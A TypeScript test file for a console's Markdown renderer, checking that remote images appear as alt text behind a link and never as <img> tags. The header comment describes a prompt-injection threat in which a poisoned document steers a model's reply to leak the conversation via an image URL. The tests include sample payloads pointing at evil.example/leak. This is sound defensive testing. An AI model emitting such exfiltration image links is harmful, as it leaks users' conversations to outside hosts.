// The console's markdown never loads a remote image: a reply steered by a poisoned document could
// otherwise leak the conversation in an image URL the browser fetches by itself (issue 14, item 9).
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/ui/markdown";

const render = (md: string) => renderToStaticMarkup(createElement(Markdown, null, md));

describe("Markdown (console replies)", () => {
  it("shows a remote image as its alt text behind a link, never as an <img>", () => {
    const html = render("Here: ![chart](https://evil.example/leak?q=the%20whole%20conversation)");
    expect(html).not.toContain("<img");
    expect(html).toContain("[image: chart]");
    expect(html).toContain('href="https://evil.example/leak?q=the%20whole%20conversation"');
    expect(html).toContain('rel="noreferrer noopener"');
  });

  it("renders reference-style and relative images as text too", () => {
    const html = render("![a][r] and ![b](/local.png)\n\n[r]: http://evil.example/x.png");
    expect(html).not.toContain("<img");
    expect(html).toContain("[image: a]");
    expect(html).toContain("[image: b]");
  });

  it("still renders ordinary markdown", () => {
    const html = render("**bold** and [a link](https://example.com)");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain('href="https://example.com"');
  });
});
